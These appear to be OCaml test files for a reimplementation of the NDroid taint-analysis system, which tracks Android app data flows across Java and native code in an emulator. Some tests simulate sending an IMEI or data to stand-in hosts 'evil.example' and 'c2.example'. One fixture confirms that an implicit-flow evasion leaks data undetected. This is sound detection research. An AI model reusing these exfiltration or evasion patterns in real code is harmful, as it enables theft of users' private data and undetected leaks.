  let s, _ = Vm.new_string vm "Quark" in
  let v, _ = Device.run device cls "firstByte" [| tv s |] in
  Alcotest.(check bool) "'Q'" true (Dvalue.equal v (int32 (Char.code 'Q')))

let test_new_string_utf_returns_java_string () =
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"makeString" ~shorty:"L" "makeString" ] ]
      [ Asm.Label "makeString";
        Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
        Asm.La (1, "msg");
        Asm.Call "NewStringUTF";
        Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
        Asm.Align4;
        Asm.Label "msg";
        Asm.Asciz "from native" ]
  in
  let v, _ = Device.run device cls "makeString" [||] in
  Alcotest.(check string) "contents" "from native"
    (Vm.string_of_value (Device.vm device) v)

let test_native_calls_java () =
  (* native calls back into a static Java method and returns its result + 1 *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"bounce" ~shorty:"I" "bounce";
            J.method_ ~cls ~name:"answer" ~shorty:"I" ~registers:4
              [ J.I (B.Const (0, int32 41)); J.I (B.Return 0) ] ] ]
      [ Asm.Label "bounce";
        Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
        mov 9 0;
        Asm.La (1, "cls_name");
        Asm.Call "FindClass";
        mov 4 0;
        mov 0 9;
        mov 1 4;
        Asm.La (2, "m_name");
        Asm.La (3, "m_sig");
        Asm.Call "GetStaticMethodID";
        mov 2 0;
        mov 1 4;
        mov 0 9;
        Asm.Call "CallStaticIntMethod";
        Asm.I (Insn.add 0 0 (Insn.Imm 1));
        Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
        Asm.Align4;
        Asm.Label "cls_name";
        Asm.Asciz "LApp;";
        Asm.Label "m_name";
        Asm.Asciz "answer";
        Asm.Label "m_sig";
        Asm.Asciz "()I" ]
  in
  let v, _ = Device.run device cls "bounce" [||] in
  Alcotest.(check bool) "41+1" true (Dvalue.equal v (int32 42))

let test_field_access_from_native () =
  (* native reads an instance field, doubles it, writes it back *)
  let device =
    boot
      [ J.class_ ~name:cls ~fields:[ "x" ]
          [ J.native_method ~cls ~name:"touch" ~shorty:"VL" "touch";
            J.method_ ~cls ~name:"driver" ~shorty:"I" ~registers:6
              [ J.I (B.New_instance (0, cls));
                J.I (B.Const (1, int32 21));
                J.I (B.Iput (1, 0, { B.f_class = cls; f_name = "x" }));
                J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "touch" }, [ 0 ]));
                J.I (B.Iget (2, 0, { B.f_class = cls; f_name = "x" }));
                J.I (B.Return 2) ] ] ]
      [ Asm.Label "touch";
        Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
        mov 9 0;
        mov 4 2 (* the object iref *);
        (* cls = GetObjectClass(obj); fid = GetFieldID(cls, "x", "I") *)
        mov 1 4;
        Asm.Call "GetObjectClass";
        mov 5 0;
        mov 0 9;
        mov 1 5;
        Asm.La (2, "f_name");
        Asm.La (3, "f_sig");
        Asm.Call "GetFieldID";
        mov 6 0;
        (* v = GetIntField(obj, fid) *)
        mov 0 9;
        mov 1 4;
        mov 2 6;
        Asm.Call "GetIntField";
        (* SetIntField(obj, fid, v*2) *)
        Asm.I (Insn.add 3 0 (Insn.Reg 0));
        mov 0 9;
        mov 1 4;
        mov 2 6;
        Asm.Call "SetIntField";
        Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
        Asm.Align4;
        Asm.Label "f_name";
        Asm.Asciz "x";
        Asm.Label "f_sig";
        Asm.Asciz "I" ]
  in
  let v, _ = Device.run device cls "driver" [||] in
  Alcotest.(check bool) "field doubled" true (Dvalue.equal v (int32 42))

let test_array_elements_roundtrip () =
  (* native doubles every element of an int[] via Get/ReleaseIntArrayElements *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"doubleAll" ~shorty:"VL" "doubleAll";
            J.method_ ~cls ~name:"driver" ~shorty:"I" ~registers:8
              [ J.I (B.Const (0, int32 3));
                J.I (B.New_array (1, 0, "I"));
                J.I (B.Const (2, int32 0));
                J.I (B.Const (3, int32 7));
                J.I (B.Aput (3, 1, 2));
                J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "doubleAll" }, [ 1 ]));
                J.I (B.Aget (4, 1, 2));
                J.I (B.Return 4) ] ] ]
      [ Asm.Label "doubleAll";
        Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
        mov 9 0;
        mov 4 2;
        (* n = GetArrayLength(arr) *)
        mov 1 4;
        Asm.Call "GetArrayLength";
        mov 5 0;
        (* buf = GetIntArrayElements(arr, 0) *)
        mov 0 9;
        mov 1 4;
        Asm.I (Insn.mov 2 (Insn.Imm 0));
        Asm.Call "GetIntArrayElements";
        mov 6 0;
        (* double each word *)
        Asm.Label "dloop";
        Asm.I (Insn.subs 5 5 (Insn.Imm 1));
        Asm.Br (Insn.MI, "ddone");
        Asm.I (Insn.Mem { cond = Insn.AL; load = true; width = Insn.Word; rd = 1;
                          rn = 6; offset = Insn.Off_reg (true, 5, Insn.LSL, 2);
                          pre = true; writeback = false });
        Asm.I (Insn.add 1 1 (Insn.Reg 1));
        Asm.I (Insn.Mem { cond = Insn.AL; load = false; width = Insn.Word; rd = 1;
                          rn = 6; offset = Insn.Off_reg (true, 5, Insn.LSL, 2);
                          pre = true; writeback = false });
        Asm.Br (Insn.AL, "dloop");
        Asm.Label "ddone";
        (* ReleaseIntArrayElements(arr, buf, 0) — copy back *)
        mov 0 9;
        mov 1 4;
        mov 2 6;
        Asm.I (Insn.mov 3 (Insn.Imm 0));
        Asm.Call "ReleaseIntArrayElements";
        Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]) ]
  in
  let v, _ = Device.run device cls "driver" [||] in
  Alcotest.(check bool) "7 doubled" true (Dvalue.equal v (int32 14))

let test_throw_new () =
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"fail" ~shorty:"V" "fail" ] ]
      [ Asm.Label "fail";
        Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
        mov 9 0;
        Asm.La (1, "exn_cls");
        Asm.Call "FindClass";
        mov 1 0;
        Asm.La (2, "msg");
        mov 0 9;
        Asm.Call "ThrowNew";
        Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
        Asm.Align4;
        Asm.Label "exn_cls";
        Asm.Asciz "Ljava/lang/SecurityException;";
        Asm.Label "msg";
        Asm.Asciz "denied" ]
  in
  match Device.run device cls "fail" [||] with
  | exception Vm.Java_throw (Dvalue.Obj id, _) ->
    let vm = Device.vm device in
    let msg, _ =
      Interp.invoke_by_name vm "Ljava/lang/SecurityException;" "getMessage"
        [| tv (Dvalue.Obj id) |]
    in
    Alcotest.(check string) "message" "denied" (Vm.string_of_value vm msg)
  | _ -> Alcotest.fail "expected Java_throw"

let test_load_library_via_java () =
  let device = Device.create () in
  Device.install_classes device
    [ J.class_ ~name:cls
        [ J.native_method ~cls ~name:"five" ~shorty:"I" "five";
          J.method_ ~cls ~name:"main" ~shorty:"I" ~registers:4
            [ J.I (B.Const_string (0, "mylib"));
              J.I (B.Invoke (B.Static,
                             { B.m_class = "Ljava/lang/System;";
                               m_name = "loadLibrary" }, [ 0 ]));
              J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "five" }, []));
              J.I (B.Move_result 1);
              J.I (B.Return 1) ] ] ];
  let prog =
    Asm.assemble ~base:Layout.app_lib_base
      [ Asm.Label "five"; Asm.I (Insn.mov 0 (Insn.Imm 5)); Asm.I Insn.bx_lr ]
  in
  Device.provide_library device "mylib" prog;
  let v, _ = Device.run device cls "main" [||] in
  Alcotest.(check bool) "loaded and called" true (Dvalue.equal v (int32 5))

let test_unsatisfied_link_error () =
  let device = Device.create () in
  Device.install_classes device
    [ J.class_ ~name:cls
        [ J.native_method ~cls ~name:"ghost" ~shorty:"V" "ghost" ] ];
  Alcotest.(check bool) "raises" true
    (match Device.run device cls "ghost" [||] with
     | exception Vm.Dvm_error msg ->
       String.length msg > 0 && String.sub msg 0 22 = "UnsatisfiedLinkError: "
     | _ -> false)

let test_default_return_policy_clear () =
  (* without an analysis attached, a native return value carries no taint
     even when parameters are tainted *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"echo" ~shorty:"II" "echo" ] ]
      [ Asm.Label "echo"; mov 0 2; Asm.I Insn.bx_lr ]
  in
  let _, t = Device.run device cls "echo" [| tv ~taint:Taint.imei (int32 1) |] in
  Alcotest.(check bool) "clear by default" true (Taint.is_clear t)

let test_gc_during_native_flow () =
  (* an iref taken before a GC still resolves after it *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"make" ~shorty:"L" "make" ] ]
      [ Asm.Label "make";
        Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
        Asm.La (1, "s");
        Asm.Call "NewStringUTF";
        Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
        Asm.Align4;
        Asm.Label "s";
        Asm.Asciz "survivor" ]
  in
  let v, _ = Device.run device cls "make" [||] in
  Device.gc device;
  Device.gc device;
  Alcotest.(check string) "string survives two GCs" "survivor"
    (Vm.string_of_value (Device.vm device) v)

let suite =
  [ Alcotest.test_case "native int args" `Quick test_native_int_args;
    Alcotest.test_case "native stack args" `Quick test_native_stack_args;
    Alcotest.test_case "GetStringUTFChars" `Quick test_get_string_utf_chars;
    Alcotest.test_case "NewStringUTF" `Quick test_new_string_utf_returns_java_string;
    Alcotest.test_case "native calls Java" `Quick test_native_calls_java;
    Alcotest.test_case "field access from native" `Quick
      test_field_access_from_native;
    Alcotest.test_case "array elements roundtrip" `Quick
      test_array_elements_roundtrip;
    Alcotest.test_case "ThrowNew" `Quick test_throw_new;
    Alcotest.test_case "System.loadLibrary" `Quick test_load_library_via_java;
    Alcotest.test_case "UnsatisfiedLinkError" `Quick test_unsatisfied_link_error;
    Alcotest.test_case "default return policy is clear" `Quick
      test_default_return_policy_clear;
    Alcotest.test_case "GC during native flow" `Quick test_gc_during_native_flow ]
