(* Extended surface: long multiply / CLZ, JNI array regions, input
   generation (Sec. VI), and the Sec. VII control-flow evasion. *)

module Insn = Ndroid_arm.Insn
module Encode = Ndroid_arm.Encode
module Decode = Ndroid_arm.Decode
module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory
module Exec = Ndroid_arm.Exec
module Asm = Ndroid_arm.Asm
module Layout = Ndroid_emulator.Layout
module Machine = Ndroid_emulator.Machine
module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Taint = Ndroid_taint.Taint
module Taint_engine = Ndroid_core.Taint_engine
module Insn_taint = Ndroid_core.Insn_taint
module Ndroid = Ndroid_core.Ndroid
module M = Ndroid_apps.Monkey
module H = Ndroid_apps.Harness

let insn_t = Alcotest.testable Insn.pp ( = )
let check_taint = Alcotest.testable Taint.pp Taint.equal

let test_mull_clz_roundtrip () =
  List.iter
    (fun i ->
      match Decode.decode (Encode.encode i) with
      | Some i' -> Alcotest.check insn_t (Insn.to_string i) i i'
      | None -> Alcotest.failf "decode failed for %s" (Insn.to_string i))
    [ Insn.umull 0 1 2 3;
      Insn.smull 4 5 6 7;
      Insn.Mull { cond = Insn.NE; signed = true; s = true; rdlo = 1; rdhi = 2;
                  rm = 3; rs = 4 };
      Insn.clz 0 1;
      Insn.Clz { cond = Insn.EQ; rd = 5; rm = 9 } ]

let run_snippet items check =
  let prog = Asm.assemble ~base:0x1000 items in
  let mem = Memory.create () in
  Asm.load prog mem;
  let cpu = Cpu.create () in
  Cpu.set_pc cpu 0x1000;
  Cpu.set_reg cpu 14 0xFFFF0000;
  let n = ref 0 in
  while Cpu.pc cpu <> 0xFFFF0000 && !n < 10_000 do
    ignore (Exec.step cpu mem);
    incr n
  done;
  check cpu

let test_umull_exec () =
  run_snippet
    [ Asm.Li (2, 0x10000);
      Asm.Li (3, 0x10000);
      Asm.I (Insn.umull 0 1 2 3);
      Asm.I Insn.bx_lr ]
    (fun cpu ->
      (* 0x10000 * 0x10000 = 0x1_0000_0000 *)
      Alcotest.(check int) "lo" 0 (Cpu.reg cpu 0);
      Alcotest.(check int) "hi" 1 (Cpu.reg cpu 1))

let test_smull_exec () =
  run_snippet
    [ Asm.Li (2, 0xFFFFFFFF) (* -1 *);
      Asm.I (Insn.mov 3 (Insn.Imm 5));
      Asm.I (Insn.smull 0 1 2 3);
      Asm.I Insn.bx_lr ]
    (fun cpu ->
      (* -1 * 5 = -5 = 0xFFFFFFFF_FFFFFFFB *)
      Alcotest.(check int) "lo" 0xFFFFFFFB (Cpu.reg cpu 0);
      Alcotest.(check int) "hi" 0xFFFFFFFF (Cpu.reg cpu 1))

let test_clz_exec () =
  run_snippet
    [ Asm.I (Insn.mov 1 (Insn.Imm 1));
      Asm.I (Insn.clz 0 1);
      Asm.I (Insn.mov 2 (Insn.Imm 0));
      Asm.I (Insn.clz 3 2);
      Asm.Li (4, 0x80000000);
      Asm.I (Insn.clz 5 4);
      Asm.I Insn.bx_lr ]
    (fun cpu ->
      Alcotest.(check int) "clz 1" 31 (Cpu.reg cpu 0);
      Alcotest.(check int) "clz 0" 32 (Cpu.reg cpu 3);
      Alcotest.(check int) "clz msb" 0 (Cpu.reg cpu 5))

let test_mull_taint () =
  let e = Taint_engine.create () and cpu = Cpu.create () in
  Taint_engine.set_reg e 2 Taint.imei;
  Taint_engine.set_reg e 3 Taint.sms;
  Insn_taint.step e cpu ~addr:0 (Insn.umull 0 1 2 3);
  Alcotest.check check_taint "lo tainted" (Taint.union Taint.imei Taint.sms)
    (Taint_engine.reg e 0);
  Alcotest.check check_taint "hi tainted" (Taint.union Taint.imei Taint.sms)
    (Taint_engine.reg e 1)

(* ---- JNI array regions ---- *)

let region_cls = "LRegions;"

let region_app : H.app =
  { H.app_name = "regions";
    app_case = "jni";
    description = "array/string region copies";
    classes =
      [ J.class_ ~name:region_cls
          [ J.native_method ~cls:region_cls ~name:"sumRegion" ~shorty:"IL"
              "sumRegion";
            J.native_method ~cls:region_cls ~name:"grabString" ~shorty:"IL"
              "grabString";
            J.method_ ~cls:region_cls ~name:"driver" ~shorty:"I" ~registers:8
              [ J.I (B.Const (0, Dvalue.Int 4l));
                J.I (B.New_array (1, 0, "I"));
                J.I (B.Const (2, Dvalue.Int 0l));
                J.I (B.Const (3, Dvalue.Int 11l));
                J.I (B.Aput (3, 1, 2));
                J.I (B.Const (2, Dvalue.Int 1l));
                J.I (B.Const (3, Dvalue.Int 31l));
                J.I (B.Aput (3, 1, 2));
                J.I (B.Invoke (B.Static, { B.m_class = region_cls;
                                           m_name = "sumRegion" }, [ 1 ]));
                J.I (B.Move_result 4);
                J.I (B.Return 4) ] ] ];
    build_libs =
      (fun extern ->
        let open Asm in
        [ ( "regions",
            assemble ~extern ~base:Layout.app_lib_base
              ([ (* int sumRegion(int[] a): GetIntArrayRegion(a, 0, 2, buf);
                    return buf[0] + buf[1] *)
                 Label "sumRegion";
                 I (Insn.push [ Insn.r4; Insn.lr ]);
                 I (Insn.mov 1 (Insn.Reg 2));
                 I (Insn.mov 2 (Insn.Imm 0));
                 I (Insn.mov 3 (Insn.Imm 2));
                 La (7, "rbuf");
                 I (Insn.push [ Insn.r7 ]);
                 Call "GetIntArrayRegion";
                 I (Insn.add 13 13 (Insn.Imm 4));
                 La (1, "rbuf");
                 I (Insn.ldr 0 1 0);
                 I (Insn.ldr 2 1 4);
                 I (Insn.add 0 0 (Insn.Reg 2));
                 I (Insn.pop [ Insn.r4; Insn.pc ]);
                 (* int grabString(String s): GetStringUTFRegion(s,0,3,buf);
                    return buf[0] *)
                 Label "grabString";
                 I (Insn.push [ Insn.r4; Insn.lr ]);
                 I (Insn.mov 1 (Insn.Reg 2));
                 I (Insn.mov 2 (Insn.Imm 0));
                 I (Insn.mov 3 (Insn.Imm 3));
                 La (7, "rbuf");
                 I (Insn.push [ Insn.r7 ]);
                 Call "GetStringUTFRegion";
                 I (Insn.add 13 13 (Insn.Imm 4));
                 La (1, "rbuf");
                 I (Insn.ldrb 0 1 0);
                 I (Insn.pop [ Insn.r4; Insn.pc ]);
                 Align4;
                 Label "rbuf" ]
              @ List.init 8 (fun _ -> Word 0)) ) ]);
    entry = (region_cls, "driver");
    expected_sink = "" }

let test_get_array_region () =
  let device = H.boot region_app in
  let v, _ = Device.run device region_cls "driver" [||] in
  Alcotest.(check bool) "11+31" true (Dvalue.equal v (Dvalue.Int 42l))

let test_string_region_taint () =
  let device = H.boot region_app in
  let nd = Ndroid.attach device in
  let vm = Device.vm device in
  let s, t = Vm.new_string vm ~taint:Taint.sms "SECRET" in
  let v, _ = Device.run device region_cls "grabString" [| (s, t) |] in
  Alcotest.(check bool) "'S'" true (Dvalue.equal v (Dvalue.Int 83l));
  (* the NDroid hook must have tainted the native buffer *)
  let engine = Ndroid.engine nd in
  Alcotest.(check bool) "buffer tainted" true
    (Ndroid_core.Taint_engine.tainted_bytes engine > 0)

(* ---- input generation ---- *)

let test_scripted_input_triggers () =
  let r = M.drive_script ~script:M.gated_script ~mode:H.Ndroid_full M.gated_app in
  Alcotest.(check bool) "directed input leaks" true r.M.leaked

let test_wrong_order_does_not_trigger () =
  let r =
    M.drive_script
      ~script:[ "upload"; "sync"; "account"; "settings" ]
      ~mode:H.Ndroid_full M.gated_app
  in
  Alcotest.(check bool) "reversed path is safe" false r.M.leaked

let test_reset_breaks_the_path () =
  let r =
    M.drive_script
      ~script:[ "settings"; "account"; "home"; "sync"; "upload" ]
      ~mode:H.Ndroid_full M.gated_app
  in
  Alcotest.(check bool) "home resets the state machine" false r.M.leaked

let test_random_monkey_mostly_misses () =
  let found = M.discovery_rate ~seeds:10 ~events:60 ~mode:H.Ndroid_full M.gated_app in
  Alcotest.(check bool) "finds it rarely" true (found <= 3)

let test_random_monkey_deterministic () =
  let a = M.drive_random ~seed:7 ~events:25 ~mode:H.Vanilla M.gated_app in
  let b = M.drive_random ~seed:7 ~events:25 ~mode:H.Vanilla M.gated_app in
  Alcotest.(check (list string)) "same events" a.M.events_fired b.M.events_fired

(* ---- control-flow evasion (negative fixture) ---- *)

let test_evasion_leaks_but_is_missed () =
  let missed, payload = Ndroid_apps.Evasion.run_and_confirm_miss () in
  Alcotest.(check bool) "NDroid misses the implicit flow" true missed;
  Alcotest.(check (option string)) "the IMEI still left the device"
    (Some "357242043237517") payload

let test_evasion_missed_by_everyone () =
  List.iter
    (fun mode ->
      Alcotest.(check bool)
        (H.mode_name mode ^ " misses")
        false
        (H.run mode Ndroid_apps.Evasion.app).H.detected)
    [ H.Vanilla; H.Taintdroid_only; H.Droidscope_mode; H.Ndroid_full ]

let suite =
  [ Alcotest.test_case "UMULL/SMULL/CLZ roundtrip" `Quick test_mull_clz_roundtrip;
    Alcotest.test_case "UMULL exec" `Quick test_umull_exec;
    Alcotest.test_case "SMULL exec" `Quick test_smull_exec;
    Alcotest.test_case "CLZ exec" `Quick test_clz_exec;
    Alcotest.test_case "MULL taint rule" `Quick test_mull_taint;
    Alcotest.test_case "GetIntArrayRegion" `Quick test_get_array_region;
    Alcotest.test_case "GetStringUTFRegion taint" `Quick test_string_region_taint;
    Alcotest.test_case "scripted input triggers" `Quick test_scripted_input_triggers;
    Alcotest.test_case "wrong order safe" `Quick test_wrong_order_does_not_trigger;
    Alcotest.test_case "reset breaks path" `Quick test_reset_breaks_the_path;
    Alcotest.test_case "random monkey mostly misses" `Quick
      test_random_monkey_mostly_misses;
    Alcotest.test_case "random monkey deterministic" `Quick
      test_random_monkey_deterministic;
    Alcotest.test_case "evasion leaks but is missed" `Quick
      test_evasion_leaks_but_is_missed;
    Alcotest.test_case "evasion missed by every mode" `Quick
      test_evasion_missed_by_everyone ]
