(* Android framework simulation: FS, network, native heap, sources, sinks,
   libc/libm models (exercised through a booted device's machine). *)

module A = Ndroid_android
module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module Interp = Ndroid_dalvik.Interp
module Taint = Ndroid_taint.Taint

let check_taint = Alcotest.testable Taint.pp Taint.equal

let test_filesystem () =
  let fs = A.Filesystem.create () in
  let fd = A.Filesystem.open_file fs "/sdcard/x" `Write in
  ignore (A.Filesystem.write fs fd "hello ");
  ignore (A.Filesystem.write fs fd "world");
  A.Filesystem.close fs fd;
  Alcotest.(check string) "contents" "hello world" (A.Filesystem.contents fs "/sdcard/x");
  Alcotest.(check int) "journal" 2 (List.length (A.Filesystem.writes fs));
  let fd = A.Filesystem.open_file fs "/sdcard/x" `Read in
  Alcotest.(check string) "read" "hello" (A.Filesystem.read fs fd 5);
  Alcotest.(check string) "read cont" " worl" (A.Filesystem.read fs fd 5);
  Alcotest.(check bool) "missing" true
    (match A.Filesystem.open_file fs "/nope" `Read with
     | exception Not_found -> true
     | _ -> false)

let test_network () =
  let net = A.Network.create () in
  let fd = A.Network.socket net in
  A.Network.connect net fd "evil.example";
  ignore (A.Network.send net fd "payload");
  ignore (A.Network.sendto net fd "dgram" "other.example");
  let ts = A.Network.transmissions net in
  Alcotest.(check int) "two sends" 2 (List.length ts);
  Alcotest.(check string) "dest" "evil.example" (List.hd ts).A.Network.dest;
  Alcotest.(check bool) "unconnected send fails" true
    (let fd2 = A.Network.socket net in
     match A.Network.send net fd2 "x" with
     | exception Invalid_argument _ -> true
     | _ -> false)

let test_native_heap () =
  let h = A.Native_heap.create () in
  let a = A.Native_heap.malloc h 100 in
  let b = A.Native_heap.malloc h 50 in
  Alcotest.(check bool) "disjoint" true (b >= a + 100);
  Alcotest.(check (option int)) "size" (Some 104) (A.Native_heap.block_size h a);
  A.Native_heap.free h a;
  Alcotest.(check (option int)) "freed" None (A.Native_heap.block_size h a);
  let c = A.Native_heap.malloc h 60 in
  Alcotest.(check int) "first-fit reuse" a c;
  Alcotest.(check int) "live" 2 (A.Native_heap.live_blocks h)

let test_sink_monitor () =
  let m = A.Sink_monitor.create () in
  A.Sink_monitor.inspect m ~sink:"send" ~context:A.Sink_monitor.Native_context
    ~taint:Taint.clear ~data:"x" ~detail:"d";
  Alcotest.(check int) "clear not recorded" 0 (A.Sink_monitor.leak_count m);
  A.Sink_monitor.inspect m ~sink:"send" ~context:A.Sink_monitor.Native_context
    ~taint:Taint.sms ~data:"x" ~detail:"d";
  Alcotest.(check int) "tainted recorded" 1 (A.Sink_monitor.leak_count m)

(* ---- sources/sinks through the VM ---- *)

let test_sources_taint () =
  let device = Device.create () in
  let vm = Device.vm device in
  let v, t =
    Interp.invoke_by_name vm "Landroid/telephony/TelephonyManager;" "getDeviceId" [||]
  in
  Alcotest.(check string) "imei value" "357242043237517" (Vm.string_of_value vm v);
  Alcotest.check check_taint "imei tag" Taint.imei t;
  let _, t =
    Interp.invoke_by_name vm "Landroid/provider/ContactsProvider;" "getContactName"
      [| (Dvalue.Int 0l, Taint.clear) |]
  in
  Alcotest.check check_taint "contacts tag" Taint.contacts t;
  let _, t =
    Interp.invoke_by_name vm "Landroid/provider/SmsProvider;" "getSmsBody"
      [| (Dvalue.Int 0l, Taint.clear) |]
  in
  Alcotest.check check_taint "sms tag" Taint.sms t

let test_source_catalog_covers_intrinsics () =
  let device = Device.create () in
  let vm = Device.vm device in
  List.iter
    (fun (cls, name, _) -> ignore (Vm.find_method vm cls name))
    A.Sources.source_catalog

let test_java_sink_records_leak () =
  let device = Device.create () in
  let vm = Device.vm device in
  let dest, _ = Vm.new_string vm "evil.example" in
  let data, t = Vm.new_string vm ~taint:Taint.imei "357242043237517" in
  ignore
    (Interp.invoke_by_name vm "Ljava/net/Socket;" "send"
       [| (dest, Taint.clear); (data, t) |]);
  Alcotest.(check int) "leak recorded" 1
    (A.Sink_monitor.leak_count (Device.monitor device));
  Alcotest.(check int) "transmission journaled" 1
    (List.length (A.Network.transmissions (Device.net device)))

(* ---- libc models, called through the machine ---- *)

let call device name args =
  let machine = Device.machine device in
  let addr = Machine.host_fn_addr machine name in
  fst (Machine.call_native machine ~addr ~args ())

let scratch = 0x30000000

let test_libc_string_functions () =
  let device = Device.create () in
  let mem = Machine.mem (Device.machine device) in
  Memory.write_cstring mem scratch "hello world";
  Alcotest.(check int) "strlen" 11 (call device "strlen" [ scratch ]);
  Memory.write_cstring mem (scratch + 100) "hello world";
  Alcotest.(check int) "strcmp equal" 0
    (call device "strcmp" [ scratch; scratch + 100 ]);
  ignore (call device "strcpy" [ scratch + 200; scratch ]);
  Alcotest.(check string) "strcpy" "hello world"
    (Memory.read_cstring mem (scratch + 200));
  let p = call device "strstr" [ scratch; scratch + 300 ] in
  Memory.write_cstring mem (scratch + 300) "world";
  let p2 = call device "strstr" [ scratch; scratch + 300 ] in
  ignore p;
  Alcotest.(check int) "strstr finds" (scratch + 6) p2;
  Memory.write_cstring mem (scratch + 400) "  -42xyz";
  Alcotest.(check int) "atoi" (-42 land 0xFFFFFFFF) (call device "atoi" [ scratch + 400 ])

let test_libc_memory_functions () =
  let device = Device.create () in
  let mem = Machine.mem (Device.machine device) in
  let p = call device "malloc" [ 32 ] in
  Alcotest.(check bool) "malloc in native heap" true
    (p >= A.Native_heap.region_base);
  ignore (call device "memset" [ p; 0xAB; 8 ]);
  Alcotest.(check int) "memset" 0xAB (Memory.read_u8 mem (p + 7));
  ignore (call device "memcpy" [ p + 16; p; 8 ]);
  Alcotest.(check int) "memcpy" 0xAB (Memory.read_u8 mem (p + 23));
  Alcotest.(check int) "memcmp eq" 0 (call device "memcmp" [ p; p + 16; 8 ]);
  ignore (call device "free" [ p ])

let test_libc_sprintf () =
  let device = Device.create () in
  let mem = Machine.mem (Device.machine device) in
  Memory.write_cstring mem scratch "%s=%d!";
  Memory.write_cstring mem (scratch + 50) "x";
  let n =
    call device "sprintf" [ scratch + 100; scratch; scratch + 50; 7 ]
  in
  Alcotest.(check int) "length" 4 n;
  Alcotest.(check string) "rendered" "x=7!" (Memory.read_cstring mem (scratch + 100))

let test_libc_stdio () =
  let device = Device.create () in
  let mem = Machine.mem (Device.machine device) in
  Memory.write_cstring mem scratch "/sdcard/test.txt";
  Memory.write_cstring mem (scratch + 50) "w";
  let file = call device "fopen" [ scratch; scratch + 50 ] in
  Alcotest.(check bool) "fopen" true (file <> 0);
  Memory.write_cstring mem (scratch + 100) "payload";
  ignore (call device "fputs" [ scratch + 100; file ]);
  ignore (call device "fwrite" [ scratch + 100; 1; 3; file ]);
  ignore (call device "fclose" [ file ]);
  Alcotest.(check string) "file contents" "payloadpay"
    (A.Filesystem.contents (Device.fs device) "/sdcard/test.txt")

let test_libc_sockets () =
  let device = Device.create () in
  let mem = Machine.mem (Device.machine device) in
  let fd = call device "socket" [ 2; 1; 0 ] in
  Memory.write_cstring mem scratch "c2.example";
  Alcotest.(check int) "connect" 0 (call device "connect" [ fd; scratch; 0 ]);
  Memory.write_cstring mem (scratch + 50) "DATA";
  Alcotest.(check int) "send" 4 (call device "send" [ fd; scratch + 50; 4; 0 ]);
  let ts = A.Network.transmissions (Device.net device) in
  Alcotest.(check int) "journaled" 1 (List.length ts);
  Alcotest.(check string) "payload" "DATA" (List.hd ts).A.Network.payload

let test_libm () =
  let device = Device.create () in
  (* sqrt(2.0): double arg in r0:r1, result in r0:r1 *)
  let bits = Int64.bits_of_float 2.0 in
  let lo = Int64.to_int (Int64.logand bits 0xFFFFFFFFL)
  and hi = Int64.to_int (Int64.shift_right_logical bits 32) in
  let machine = Device.machine device in
  let addr = Machine.host_fn_addr machine "sqrt" in
  let r0, r1 = Machine.call_native machine ~addr ~args:[ lo; hi ] () in
  let result =
    Int64.float_of_bits
      (Int64.logor (Int64.of_int r0) (Int64.shift_left (Int64.of_int r1) 32))
  in
  Alcotest.(check (float 1e-12)) "sqrt 2" (sqrt 2.0) result;
  (* sinf: single float in r0 *)
  let fbits = Int32.to_int (Int32.bits_of_float 1.0) land 0xFFFFFFFF in
  let addr = Machine.host_fn_addr machine "sinf" in
  let r0, _ = Machine.call_native machine ~addr ~args:[ fbits ] () in
  Alcotest.(check (float 1e-6)) "sinf 1" (sin 1.0)
    (Int32.float_of_bits (Int32.of_int r0))

let test_table_vi_vii_coverage () =
  (* every Table VI/VII function is actually mounted in guest libc/libm *)
  let device = Device.create () in
  let machine = Device.machine device in
  List.iter
    (fun name ->
      match Machine.host_fn_addr machine name with
      | _ -> ()
      | exception Not_found -> Alcotest.failf "libc model missing %s" name)
    (A.Syscalls.modeled_libc @ A.Syscalls.modeled_libm @ A.Syscalls.hooked)

let test_device_profile () =
  let p = A.Device_profile.default in
  Alcotest.(check string) "line1" "15555215554" p.A.Device_profile.line1_number;
  Alcotest.(check string) "operator" "310260" p.A.Device_profile.network_operator;
  let c = List.hd p.A.Device_profile.contacts in
  Alcotest.(check string) "fig8 record" "1 Vincent cx@gg.com"
    (A.Device_profile.contact_record c)

let suite =
  [ Alcotest.test_case "filesystem" `Quick test_filesystem;
    Alcotest.test_case "network" `Quick test_network;
    Alcotest.test_case "native heap" `Quick test_native_heap;
    Alcotest.test_case "sink monitor" `Quick test_sink_monitor;
    Alcotest.test_case "sources carry tags" `Quick test_sources_taint;
    Alcotest.test_case "source catalog resolvable" `Quick
      test_source_catalog_covers_intrinsics;
    Alcotest.test_case "java sink records leak" `Quick test_java_sink_records_leak;
    Alcotest.test_case "libc strings" `Quick test_libc_string_functions;
